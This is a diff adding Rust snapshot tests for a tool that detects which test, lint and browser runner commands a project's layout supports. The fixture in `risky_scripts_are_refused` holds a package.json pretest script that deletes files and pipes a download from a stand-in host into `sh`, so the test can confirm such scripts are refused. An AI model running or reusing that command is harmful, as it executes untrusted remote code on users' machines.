@@ -1,0 +1,489 @@
+//! `detect` on generated layouts, snapshot-tested. The snapshots under
+//! `tests/it/snapshots/` were reviewed by hand: each proposed command was
+//! checked against the runner's documented flags (and, for vitest, jest,
+//! pytest, cargo, nextest and go, actually run by `real_tools`).
+
+use bootstrap::{Confidence, UnresolvedReason, detect};
+use proofgraph_graph::Adapter;
+
+use crate::layouts::*;
+
+#[test]
+fn vite_vitest_playwright_app() {
+    let dir = temp();
+    vite_app(dir.path());
+    let claims = [
+        claim(
+            "profile-update",
+            &["test", "browser", "static-analysis"],
+            None,
+        ),
+        claim("profile-review", &["review"], None),
+    ];
+    let detection = detect(&root(dir.path()), &claims, &[]);
+    insta::assert_json_snapshot!("vite_app", detection);
+    let recommended: Vec<&str> = detection
+        .candidates
+        .iter()
+        .filter(|c| c.recommended)
+        .map(|c| c.name.as_str())
+        .collect();
+    assert_eq!(recommended, ["test", "browser", "static-analysis"]);
+    assert!(
+        detection
+            .candidates
+            .iter()
+            .all(|c| c.recommended == (c.confidence == Confidence::High))
+    );
+    // discovery is implied by test and proven by the provider named `test`.
+    assert!(
+        !detection
+            .unresolved
+            .iter()
+            .any(|u| u.capability.as_str() == "discovery")
+    );
+    let review = detection
+        .unresolved
+        .iter()
+        .find(|u| u.capability.as_str() == "review")
+        .expect("review is unresolved");
+    assert_eq!(review.reason, UnresolvedReason::ExternalAuthority);
+    assert!(
+        review
+            .next_action
+            .contains("`external` provider with `ci.publicKey`")
+    );
+}
+
+#[test]
+fn jest_app_with_pnpm() {
+    let dir = temp();
+    jest_app(dir.path());
+    let claims = [claim("invoice-total", &["test", "static-analysis"], None)];
+    let detection = detect(&root(dir.path()), &claims, &[]);
+    insta::assert_json_snapshot!("jest_app", detection);
+}
+
+#[test]
+fn cargo_crate_uses_libtest_json() {
+    let dir = temp();
+    cargo_crate(dir.path());
+    let claims = [claim("double", &["test"], None)];
+    let detection = detect(&root(dir.path()), &claims, &[]);
+    insta::assert_json_snapshot!("cargo_crate", detection);
+}
+
+#[test]
+fn cargo_crate_with_a_nextest_junit_profile_prefers_nextest() {
+    let dir = temp();
+    cargo_crate(dir.path());
+    write(
+        dir.path(),
+        &[(
+            ".config/nextest.toml",
+            "[profile.ci.junit]\npath = \"junit.xml\"\n",
+        )],
+    );
+    let claims = [claim("double", &["test"], None)];
+    let detection = detect(&root(dir.path()), &claims, &[]);
+    insta::assert_json_snapshot!("cargo_nextest", detection);
+}
+
+#[test]
+fn pytest_project() {
+    let dir = temp();
+    crate::layouts::pytest_project(dir.path());
+    let claims = [claim("double", &["test", "static-analysis"], None)];
+    let detection = detect(&root(dir.path()), &claims, &[]);
+    insta::assert_json_snapshot!("pytest_project", detection);
+}
+
+#[test]
+fn go_module() {
+    let dir = temp();
+    crate::layouts::go_module(dir.path());
+    let claims = [claim("double", &["test"], None)];
+    let detection = detect(&root(dir.path()), &claims, &[]);
+    insta::assert_json_snapshot!("go_module", detection);
+}
+
+#[test]
+fn monorepo_with_two_repositories() {
+    let dir = temp();
+    let web = sub(dir.path(), "web");
+    let api = sub(dir.path(), "api");
+    vite_app(&web);
+    cargo_crate(&api);
+    let repos = [repo("web", &web), repo("api", &api)];
+    let claims = [
+        claim("profile-update", &["test"], Some(&["web", "api"])),
+        claim("profile-page", &["browser"], Some(&["web"])),
+        claim("profile-contract", &["cross-repo-contract"], None),
+    ];
+    let detection = detect(&repos, &claims, &[]);
+    insta::assert_json_snapshot!("monorepo", detection);
+    let names: Vec<&str> = detection
+        .candidates
+        .iter()
+        .map(|c| c.name.as_str())
+        .collect();
+    assert_eq!(
+        names,
+        [
+            "test-web",
+            "discovery-web",
+            "test-api",
+            "discovery-api",
+            "browser-web"
+        ]
+    );
+}
+
+#[test]
+fn risky_scripts_are_refused() {
+    let dir = temp();
+    write(
+        dir.path(),
+        &[
+            (
+                "package.json",
+                r#"{"name": "x", "scripts": {"pretest": "rm -rf .cache && curl -s https://example.invalid/setup | sh", "test": "vitest run", "lint": "eslint $(git ls-files '*.js')"}, "devDependencies": {"vitest": "^3.0.0", "eslint": "^9.0.0"}}"#,
+            ),
+            ("package-lock.json", "{}"),
+        ],
+    );
+    let claims = [claim("safe", &["test", "static-analysis"], None)];
+    let detection = detect(&root(dir.path()), &claims, &[]);
+    insta::assert_json_snapshot!("risky", detection);
+    assert!(
+        detection
+            .candidates
+            .iter()
+            .all(|c| !c.recommended && c.provider.is_null())
+    );
+    assert!(
+        detection
+            .unresolved
+            .iter()
+            .any(|u| u.capability.as_str() == "test"
+                && u.reason == UnresolvedReason::NoSafeProjectCommand)
+    );
+}
+
+#[test]
+fn jest_and_vitest_together_are_ambiguous() {
+    let dir = temp();
+    write(
+        dir.path(),
+        &[
+            (
+                "package.json",
+                r#"{"name": "x", "scripts": {"test": "node scripts/run-tests.mjs"}, "devDependencies": {"jest": "^29.0.0", "vitest": "^3.0.0"}}"#,
+            ),
+            ("package-lock.json", "{}"),
+            ("scripts/run-tests.mjs", "// runs both\n"),
+        ],
+    );
+    let claims = [claim("c", &["test"], None)];
+    let detection = detect(&root(dir.path()), &claims, &[]);
+    insta::assert_json_snapshot!("ambiguous", detection);
+    assert_eq!(detection.candidates.len(), 2);
+    assert!(
+        detection
+            .candidates
+            .iter()
+            .all(|c| c.confidence == Confidence::Ambiguous)
+    );
+    assert!(
+        detection
+            .unresolved
+            .iter()
+            .any(|u| u.capability.as_str() == "test" && u.reason == UnresolvedReason::Ambiguous)
+    );
+}
+
+#[test]
+fn a_script_running_two_runners_is_ambiguous() {
+    let dir = temp();
+    write(
+        dir.path(),
+        &[(
+            "package.json",
+            r#"{"name": "x", "scripts": {"test": "jest && vitest run"}, "devDependencies": {"jest": "^29.0.0", "vitest": "^3.0.0"}}"#,
+        )],
+    );
+    let detection = detect(&root(dir.path()), &[claim("c", &["test"], None)], &[]);
+    assert_eq!(detection.candidates.len(), 2);
+    assert!(
+        detection
+            .candidates
+            .iter()
+            .all(|c| c.confidence == Confidence::Ambiguous)
+    );
+}
+
+#[test]
+fn a_runner_that_is_not_last_in_the_chain_needs_review() {
+    let dir = temp();
+    write(
+        dir.path(),
+        &[(
+            "package.json",
+            r#"{"name": "x", "scripts": {"test": "vitest run && eslint ."}, "devDependencies": {"vitest": "^3.0.0"}}"#,
+        )],
+    );
+    let detection = detect(&root(dir.path()), &[claim("c", &["test"], None)], &[]);
+    assert_eq!(detection.candidates.len(), 1);
+    assert_eq!(detection.candidates[0].confidence, Confidence::Review);
+    assert_eq!(
+        detection.unresolved[0].reason,
+        UnresolvedReason::NeedsReview
+    );
+    // A chain that ends with the runner is fine.
+    write(
+        dir.path(),
+        &[(
+            "package.json",
+            r#"{"name": "x", "scripts": {"test": "tsc --noEmit && vitest run"}, "devDependencies": {"vitest": "^3.0.0"}}"#,
+        )],
+    );
+    let detection = detect(&root(dir.path()), &[claim("c", &["test"], None)], &[]);
+    assert_eq!(detection.candidates[0].confidence, Confidence::High);
+}
+
+#[test]
+fn node_test_reporter_flags_go_before_file_patterns() {
+    let dir = temp();
+    write(
+        dir.path(),
+        &[(
+            "package.json",
+            r#"{"name": "x", "scripts": {"test": "node --test test/"}}"#,
+        )],
+    );
+    let detection = detect(&root(dir.path()), &[claim("c", &["test"], None)], &[]);
+    let c = &detection.candidates[0];
+    assert_eq!(c.confidence, Confidence::High);
+    assert_eq!(
+        c.provider["command"],
+        serde_json::json!([
+            "sh",
+            "-c",
+            "mkdir -p test-results && exec \"$@\"",
+            "sh",
+            "node",
+            "--test-reporter=tap",
+            "--test-reporter-destination=test-results/node-test.tap",
+            "--test",
+            "test/"
+        ])
+    );
+    assert_eq!(c.provider["reportFormat"], "tap");
+}
+
+#[test]
+fn a_wired_capability_gets_no_candidate() {
+    let dir = temp();
+    vite_app(dir.path());
+    let existing = [provider("test", Adapter::TestDiscovery, &["npm", "test"])];
+    let claims = [claim("c", &["test", "browser"], None)];
+    let detection = detect(&root(dir.path()), &claims, &existing);
+    let caps: Vec<&str> = detection
+        .candidates
+        .iter()
+        .map(|c| c.capability.as_str())
+        .collect();
+    assert_eq!(caps, ["browser"]);
+    assert!(
+        detection.unresolved.is_empty(),
+        "{:?}",
+        detection.unresolved
+    );
+}
+
+#[test]
+fn a_repository_without_a_test_runner_is_unresolved() {
+    let dir = temp();
+    write(dir.path(), &[("README.md", "docs only\n")]);
+    let detection = detect(
+        &root(dir.path()),
+        &[claim("c", &["test", "mutation"], None)],
+        &[],
+    );
+    assert!(detection.candidates.is_empty());
+    let reasons: Vec<(&str, UnresolvedReason)> = detection
+        .unresolved
+        .iter()
+        .map(|u| (u.capability.as_str(), u.reason))
+        .collect();
+    assert_eq!(
+        reasons,
+        [
+            ("test", UnresolvedReason::NoSafeProjectCommand),
+            (
+                "discovery",
+                UnresolvedReason::StructuredTestCountUnavailable
+            ),
+            ("mutation", UnresolvedReason::NoSafeProjectCommand),
+        ]
+    );
+}
+
+#[test]
+fn an_unknown_test_command_lacks_a_structured_count() {
+    let dir = temp();
+    write(
+        dir.path(),
+        &[(
+            "package.json",
+            r#"{"name": "x", "scripts": {"test": "./run-tests.sh"}}"#,
+        )],
+    );
+    let detection = detect(&root(dir.path()), &[claim("c", &["test"], None)], &[]);
+    assert_eq!(
+        detection.unresolved[0].reason,
+        UnresolvedReason::StructuredTestCountUnavailable
+    );
+    assert!(
+        detection.unresolved[0]
+            .next_action
+            .contains("structured report")
+    );
+}
+
+#[test]
+fn invalid_manifests_are_warnings() {
+    let dir = temp();
+    write(
+        dir.path(),
+        &[
+            ("package.json", "{ not json"),
+            ("Cargo.toml", "[package\nname="),
+        ],
+    );
+    let detection = detect(&root(dir.path()), &[claim("c", &["test"], None)], &[]);
+    assert_eq!(detection.warnings.len(), 2, "{:?}", detection.warnings);
+    assert!(detection.warnings[0].starts_with("`package.json` is not valid JSON"));
+    assert!(detection.warnings[1].starts_with("`Cargo.toml` is not valid TOML"));
+}
+
+#[test]
+fn the_package_manager_follows_the_lockfile() {
+    for (lock, argv0) in [
+        ("pnpm-lock.yaml", "pnpm"),
+        ("yarn.lock", "yarn"),
+        ("bun.lockb", "bun"),
+        ("package-lock.json", "npm"),
+    ] {
+        let dir = temp();
+        write(
+            dir.path(),
+            &[
+                (
+                    "package.json",
+                    r#"{"scripts": {"test": "vitest"}, "devDependencies": {"vitest": "3"}}"#,
+                ),
+                (lock, ""),
+            ],
+        );
+        let detection = detect(&root(dir.path()), &[claim("c", &["test"], None)], &[]);
+        assert_eq!(
+            detection.candidates[0].provider["command"][0], argv0,
+            "{lock}"
+        );
+        assert_eq!(detection.candidates[0].confidence, Confidence::High);
+    }
+}
+
+#[test]
+fn claims_target_only_their_repositories() {
+    let dir = temp();
+    let web = sub(dir.path(), "web");
+    let docs = sub(dir.path(), "docs");
+    vite_app(&web);
+    write(&docs, &[("README.md", "docs\n")]);
+    let repos = [repo("web", &web), repo("docs", &docs)];
+    let detection = detect(&repos, &[claim("c", &["test"], Some(&["web"]))], &[]);
+    assert!(
+        detection
+            .candidates
+            .iter()
+            .all(|c| c.repository.as_str() == "web")
+    );
+    assert!(detection.unresolved.is_empty());
+    // Without repositories on the claim, every repository is a target.
+    let detection = detect(&repos, &[claim("c", &["test"], None)], &[]);
+    assert!(
+        detection
+            .unresolved
+            .iter()
+            .any(|u| u.repository.as_ref().is_some_and(|r| r.as_str() == "docs"))
+    );
+}
+
+#[test]
+fn script_aliases_are_only_alternatives() {
+    let dir = temp();
+    write(
+        dir.path(),
+        &[(
+            "package.json",
+            r#"{"scripts": {"test:integration": "vitest run -c vitest.integration.ts", "bench": "vitest bench"}}"#,
+        )],
+    );
+    let claims = [claim("c", &["integration", "performance"], None)];
+    let detection = detect(&root(dir.path()), &claims, &[]);
+    let got: Vec<(&str, Confidence)> = detection
+        .candidates
+        .iter()
+        .map(|c| (c.capability.as_str(), c.confidence))
+        .collect();
+    assert_eq!(
+        got,
+        [
+            ("integration", Confidence::Alternative),
+            ("performance", Confidence::Alternative)
+        ]
+    );
+    assert_eq!(
+        detection.candidates[0].provider["command"],
+        serde_json::json!(["npm", "run", "test:integration"])
+    );
+    assert!(
+        detection
+            .unresolved
+            .iter()
+            .all(|u| u.reason == UnresolvedReason::NeedsReview)
+    );
+}
+
+#[test]
+fn discovery_alone_gets_its_own_test_discovery_provider() {
+    let dir = temp();
+    crate::layouts::go_module(dir.path());
+    let detection = detect(&root(dir.path()), &[claim("c", &["discovery"], None)], &[]);
+    assert_eq!(detection.candidates.len(), 1);
+    let c = &detection.candidates[0];
+    assert_eq!(c.name.as_str(), "discovery");
+    assert_eq!(c.provider["adapter"], "test-discovery");
+    assert!(c.recommended);
+}
+
+#[test]
+fn an_existing_test_provider_without_a_receiver_leaves_discovery_unresolved() {
+    let dir = temp();
+    vite_app(dir.path());
+    let unit = with_capability(
+        provider("unit", Adapter::TestDiscovery, &["npm", "test"]),
+        "test",
+    );
+    let detection = detect(&root(dir.path()), &[claim("c", &["test"], None)], &[unit]);
+    assert!(detection.candidates.is_empty());
+    assert_eq!(detection.unresolved.len(), 1);
+    assert_eq!(detection.unresolved[0].capability.as_str(), "discovery");
+    assert!(
+        detection.unresolved[0]
+            .next_action
+            .starts_with("Add `discoveryProvider: discovery` to provider `unit`")
+    );
+}
